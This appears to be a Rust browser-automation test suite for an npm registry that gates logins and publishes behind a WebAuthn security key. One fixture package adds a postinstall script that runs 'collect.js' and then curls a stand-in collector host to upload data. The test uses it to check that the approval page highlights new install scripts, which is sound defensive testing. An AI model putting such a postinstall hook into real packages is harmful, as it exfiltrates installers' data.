//! The real pages in Chromium, with its WebAuthn virtual authenticator as the security key:
//! enroll on /enroll, sign in on /login and manage keys on /keys, finish `npm login` on its
//! login page, and approve `npm publish` on /approve/{id}; then npm views and installs the
//! version. All in one browser session, so the key enrolled first does everything after. And the
//! approval page of a publish, on a phone-sized screen, showing what the version changes.

use std::time::Duration;

use serde_json::{Value, json};
use tapgate_tests::browser::Browser;
use tapgate_tests::npm::Npm;
use tapgate_tests::process::{ServeOptions, ServerProcess, server_cli, tapgate_cli};
use tapgate_tests::tools::{browser_driver, npm_available};

use crate::cli_publish::package_dir;
use crate::npm_client::assert_installs;
use crate::publish_details::package_tgz;

pub fn screenshot(browser: &mut Browser, name: &str) {
    let dir = tapgate_tests::bins::target_dir().join("screenshots");
    std::fs::create_dir_all(&dir).unwrap();
    browser.cmd(json!({ "screenshot": dir.join(format!("{name}.png")).display().to_string() }));
}

/// How many keys the page's signed-in account has, through the API with the page's token.
fn http_keys(server: &ServerProcess, browser: &mut Browser) -> usize {
    let token = browser.cmd(json!({"eval": "sessionStorage.getItem('tapgate-token')"}));
    let keys: Value = reqwest::blocking::Client::new()
        .get(server.url("/api/v1/keys"))
        .bearer_auth(token.as_str().unwrap())
        .send()
        .unwrap()
        .json()
        .unwrap();
    keys["keys"].as_array().unwrap().len()
}

#[test]
fn enroll_login_npm_login_and_npm_publish_through_the_pages() {
    let Some(driver) = browser_driver() else { return };
    if !npm_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let server = ServerProcess::start(&data, &ServeOptions::default());
    let registry = server.origin.clone();
    let (_, out, _) = server_cli(&data, None, &["--origin", &registry, "user", "add", "carol", "--json"]);
    let invite_url = serde_json::from_str::<Value>(&out).unwrap()["invite_url"].as_str().unwrap().to_string();
    let mut browser = Browser::start(&driver);

    // Enroll the first key with the invite.
    browser.goto(&invite_url);
    browser.fill("#key-name", "virtual key");
    browser.click("#enroll");
    browser.wait_for("#status[data-state=ok]");
    let status = browser.text("#status");
    assert!(status.contains("“virtual key” is enrolled for carol"), "{status}");
    screenshot(&mut browser, "enrolled");
    let creds = browser.cmd(json!({"credentials": true}));
    assert_eq!(creds.as_array().unwrap().len(), 1, "the virtual authenticator holds one credential");
    // The invite is spent: the page says so.
    browser.goto(&invite_url);
    browser.fill("#key-name", "again");
    browser.click("#enroll");
    browser.wait_for("#status[data-state=error]");
    assert!(browser.text("#status").contains("invite is unknown, expired or already used"));

    // Sign in, land on /keys, rename the key.
    browser.goto(&format!("{registry}/login"));
    browser.fill("#username", "carol");
    browser.click("#login");
    browser.wait_for("#keys tbody tr");
    assert!(browser.cmd(json!({"url": true})).as_str().unwrap().ends_with("/keys"));
    assert!(browser.text("#keys tbody").contains("virtual key"));
    browser.click("#keys tbody tr button.rename");
    browser.fill("#keys tbody tr input.rename-input", "desk key");
    browser.click("#keys tbody tr button.save");
    browser.wait_for("#status[data-state=ok]");
    assert!(browser.text("#keys tbody").contains("desk key"));
    screenshot(&mut browser, "keys");
    // A second key (a software key, enrolled with a new invite) is removed on the page: the
    // page shows the change and the browser's key approves it with a tap.
    let (_, out, _) = server_cli(&data, None, &["--origin", &registry, "user", "invite", "carol", "--json"]);
    let second_invite =
        serde_json::from_str::<Value>(&out).unwrap()["invite_url"].as_str().unwrap().to_string();
    let soft = dir.path().join("soft.key");
    tapgate::authenticator::open(&tapgate::authenticator::AuthenticatorChoice::Soft(soft.clone())).unwrap();
    let soft_arg = format!("soft:{}", soft.display());
    let (status, _, err) = tapgate_tests::process::tapgate_cli(
        &dir.path().join("cli"),
        &[
            "--server",
            &registry,
            "--authenticator",
            &soft_arg,
            "key",
            "add",
            "--invite",
            &second_invite,
            "--name",
            "soft key",
        ],
        &[],
    );
    assert!(status.success(), "{err}");
    browser.goto(&format!("{registry}/keys"));
    browser.wait_for("#keys tbody tr:has-text('soft key')");
    browser.click("#keys tbody tr:has-text('soft key') button.remove");
    browser.wait_for("#status[data-state=ok]");
    assert!(browser.text("#status").contains("Removed the key “soft key”"), "{}", browser.text("#status"));
    assert!(!browser.text("#keys tbody").contains("soft key"));
    let keys = http_keys(&server, &mut browser);
    assert_eq!(keys, 1, "the software key is gone, the browser's key stays");
    // Signing out revokes the page's token on the server.
    let page_token = browser.cmd(json!({"eval": "sessionStorage.getItem('tapgate-token')"}));
    let page_token = page_token.as_str().unwrap().to_string();
    let http = reqwest::blocking::Client::new();
    let whoami = |t: &str| http.get(server.url("/api/v1/whoami")).bearer_auth(t).send().unwrap().status();
    assert_eq!(whoami(&page_token), 200);
    browser.click("#signout");
    browser.wait_for("#login");
    assert_eq!(whoami(&page_token), 401, "signed out means revoked");
    // A wrong username fails like a wrong key (no enumeration), clearly.
    browser.goto(&format!("{registry}/login"));
    browser.fill("#username", "nobody");
    browser.click("#login");
    browser.wait_for("#status[data-state=error]");
    let refusal = browser.text("#status");
    assert!(refusal.contains("cancelled or timed out") || refusal.contains("not enrolled"), "{refusal}");

    // npm login through the login page.
    let npm = Npm::new(dir.path(), &registry);
    let login = npm.spawn_tty(dir.path(), &["login", "--registry", &format!("{registry}/")]);
    let url = login.wait_for_url(&format!("{registry}/login/npl_"), Duration::from_secs(30));
    browser.goto(&url);
    browser.fill("#username", "carol");
    browser.click("#login");
    browser.wait_for("#status[data-state=ok]");
    assert!(browser.text("#status").contains("return to your terminal"));
    let (ok, screen) = login.wait(Duration::from_secs(30));
    assert!(ok, "npm login failed:\n{screen}");
    let who = npm.run(dir.path(), &["whoami"]);
    assert_eq!(String::from_utf8_lossy(&who.stdout).trim(), "carol");

    // npm publish, approved on the approval page.
    let pkg = package_dir(dir.path(), "paged", "1.0.0", "module.exports = 'approved in a browser';\n");
    let publish = npm.spawn_tty(&pkg, &["publish"]);
    let url = publish.wait_for_url(&format!("{registry}/approve/apr_"), Duration::from_secs(60));
    browser.goto(&url);
    browser.wait_for("#approve:not([disabled])");
    assert_eq!(browser.text("#package"), "paged");
    assert_eq!(browser.text("#version"), "1.0.0");
    assert_eq!(browser.text("#requested-by"), "carol");
    let integrity = browser.text("#integrity");
    assert!(integrity.starts_with("sha512-"));
    browser.click("#approve");
    browser.wait_for("#status[data-state=ok]");
    assert!(browser.text("#status").contains("Approved — return to your terminal"));
    browser.wait_for("#code-box:not(.hidden)");
    assert_eq!(browser.text("#code").len(), 8);
    screenshot(&mut browser, "approved");
    let (ok, screen) = publish.wait(Duration::from_secs(60));
    assert!(ok, "npm publish failed:\n{screen}");

    let view = npm.run(dir.path(), &["view", "paged@1.0.0", "dist.integrity"]);
    assert_eq!(
        String::from_utf8_lossy(&view.stdout).trim(),
        integrity,
        "the approved tarball is the published one"
    );
    assert_installs(&npm, dir.path(), "paged", "1.0.0", &integrity);
    // The approval page now says it was used.
    browser.goto(&url);
    browser.wait_for("#status[data-state=ok]");
    assert!(browser.text("#status").contains("This change was made with this approval"));
}

/// The approval page of a publish that adds a `postinstall`, a dependency and a file and removes
/// another, on a phone-sized screen: everything shown, install script highlighted, nothing wider
/// than the screen.
#[test]
fn the_approval_page_shows_what_a_publish_changes_on_a_phone() {
    let Some(driver) = browser_driver() else { return };
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let server = ServerProcess::start(&data, &ServeOptions::default());
    let registry = server.origin.clone();
    let key = crate::cli_publish::cli_user(&data, &registry, dir.path(), "carol");
    let cfg = dir.path().join("carol");
    let long_path =
        format!("lib/{}/{}.js", "deeply-nested-folder".repeat(4), "a-file-name-without-any-break".repeat(3));
    let v1 = package_tgz(
        &json!({ "name": "gadget", "version": "1.0.0" }),
        &[("index.js".into(), "module.exports = 1;\n".into()), ("old.js".into(), "bye\n".into())],
    );
    let v1_file = dir.path().join("gadget-1.0.0.tgz");
    std::fs::write(&v1_file, &v1).unwrap();
    let args = ["--server", &registry, "--authenticator", &key, "publish", v1_file.to_str().unwrap()];
    let (status, _, err) = tapgate_cli(&cfg, &args, &[]);
    assert!(status.success(), "{err}");

    // 1.1.0 asks, as npm would, without a ticket: the page is what npm opens.
    let v2 = package_tgz(
        &json!({
            "name": "gadget", "version": "1.1.0",
            "dependencies": { "left-pad-with-a-rather-long-name-for-a-small-screen": "^1.3.0" },
            "scripts": { "postinstall": "node collect.js && curl https://collector.example/upload-everything-here" },
        }),
        &[("index.js".into(), "module.exports = 2;\n".into()), (long_path.clone(), "x".into())],
    );
    let credentials = std::fs::read_to_string(cfg.join("credentials.json")).unwrap();
    let token = serde_json::from_str::<Value>(&credentials).unwrap()["registries"][&registry]["token"]
        .as_str()
        .unwrap()
        .to_string();
    let agent =
        "npm/11.0.0 node/v20.19.0 linux x64 workspaces/false ci/none some-very-long-agent-token-0123456789";
    let resp = reqwest::blocking::Client::new()
        .put(server.url("/gadget"))
        .bearer_auth(&token)
        .header("user-agent", agent)
        .json(&crate::publish_support::publish_body("gadget", "1.1.0", &v2))
        .send()
        .unwrap();
    assert_eq!(resp.status(), 401);
    let challenge: Value = resp.json().unwrap();
    let url = challenge["authUrl"].as_str().unwrap().to_string();

    let mut browser = Browser::start(&driver);
    browser.viewport(390, 844);
    browser.goto(&url);
    browser.wait_for("#approve:not([disabled])");
    browser.wait_for("#publish");
    assert_eq!(browser.text("#package"), "gadget");
    assert_eq!(browser.text("#version"), "1.1.0");
    assert_eq!(browser.text("#tags"), "latest");
    assert_eq!(browser.text("#requested-by"), "carol");
    assert_eq!(browser.text("#ip"), "address 127.0.0.1");
    assert_eq!(browser.text("#user-agent"), agent);
    assert_eq!(browser.text("#registry"), registry.trim_start_matches("http://"));
    let integrity = tapgate_shared::intent::sri_sha512(&v2);
    assert_eq!(browser.text("#integrity"), integrity);
    assert_eq!(
        browser.text("#integrity-short"),
        tapgate_shared::publish_diff::npm_short_integrity(&integrity)
    );
    assert!(browser.text("#compared").contains("gadget@1.0.0"));
    let page = browser.cmd(json!({ "eval": r#"(() => {
        const all = (sel) => [...document.querySelectorAll(sel)];
        const texts = (sel) => all(sel).map((e) => e.textContent);
        const install = all('#scripts li.install-script');
        return {
            install: texts('#scripts li.install-script'),
            installBorder: install.length ? getComputedStyle(install[0]).borderLeftStyle : '',
            warning: !document.getElementById('install-warning').classList.contains('hidden'),
            added: texts('#dependencies li.added'),
            removed: texts('#file-changes li.removed'),
            addedFiles: texts('#file-changes li.added'),
        };
    })()"# }));
    let install = page["install"].as_array().unwrap();
    assert_eq!(install.len(), 1, "{page}");
    let postinstall = install[0].as_str().unwrap();
    assert!(postinstall.contains("Install script postinstall added"), "{page}");
    assert!(postinstall.contains("curl https://collector.example/upload-everything-here"), "{page}");
    assert_eq!(page["installBorder"], "solid", "highlighted by the stylesheet: {page}");
    assert_eq!(page["warning"], true, "{page}");
    assert_eq!(page["added"], json!(["+ left-pad-with-a-rather-long-name-for-a-small-screen ^1.3.0 added"]));
    assert_eq!(page["removed"], json!(["− old.js (4 B) removed"]));
    assert_eq!(page["addedFiles"], json!([format!("+ {long_path} (1 B) added")]));
    // Nothing wider than the phone, also with the full integrity and every file shown.
    let width =
        |browser: &mut Browser| browser.cmd(json!({ "eval": "document.documentElement.scrollWidth" }));
    assert!(width(&mut browser).as_u64().unwrap() <= 390, "{}", width(&mut browser));
    browser.click("#integrity-full summary");
    browser.click("#all-files summary");
    browser.wait_for("#integrity");
    browser.wait_for("#files li");
    assert!(width(&mut browser).as_u64().unwrap() <= 390, "{}", width(&mut browser));
    screenshot(&mut browser, "approve-phone");
    let console = browser.cmd(json!({ "console": true }));
    assert!(!console.to_string().contains("Content Security Policy"), "{console}");
}

#[test]
fn an_administrator_sets_a_critical_policy_on_the_admin_page_with_a_tap() {
    let Some(driver) = browser_driver() else { return };
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let server = ServerProcess::start(&data, &ServeOptions::default());
    let registry = server.origin.clone();
    let (_, out, _) =
        server_cli(&data, None, &["--origin", &registry, "user", "add", "root", "--admin", "--json"]);
    let invite_url = serde_json::from_str::<Value>(&out).unwrap()["invite_url"].as_str().unwrap().to_string();
    let mut browser = Browser::start(&driver);
    browser.goto(&invite_url);
    browser.fill("#key-name", "admin key");
    browser.click("#enroll");
    browser.wait_for("#status[data-state=ok]");
    browser.goto(&format!("{registry}/login"));
    browser.fill("#username", "root");
    browser.click("#login");
    browser.wait_for("#keys tbody tr");
    browser.click("#admin-link");
    browser.wait_for("#policy-form");
    // A name nobody published yet: the page says saving reserves it.
    browser.fill("#package", "vault");
    browser.click("#load");
    browser.wait_for("#status[data-state=ok]");
    assert!(
        browser.text("#status").contains("saving a policy reserves the name"),
        "{}",
        browser.text("#status")
    );
    browser.cmd(json!({"eval": "document.getElementById('all-enrolled').checked = true"}));
    browser.fill("#approvals", "1");
    browser.click("#save");
    browser.wait_for("#status[data-state=ok]:has-text('is saved')");
    let info: Value = reqwest::blocking::get(server.url("/api/v1/packages/vault")).unwrap().json().unwrap();
    assert_eq!(info["policy"]["second_factor"], "security-key");
    assert_eq!(info["policy"]["all_maintainers_enrolled"], true, "{info}");
    // Loading it back shows what is stored.
    browser.goto(&format!("{registry}/admin"));
    browser.fill("#package", "vault");
    browser.click("#load");
    browser.wait_for("#status[data-state=ok]:has-text('as it stands')");
    let checked = browser.cmd(json!({"eval": "document.getElementById('all-enrolled').checked"}));
    assert_eq!(checked, json!(true));
    screenshot(&mut browser, "admin-policy");
}
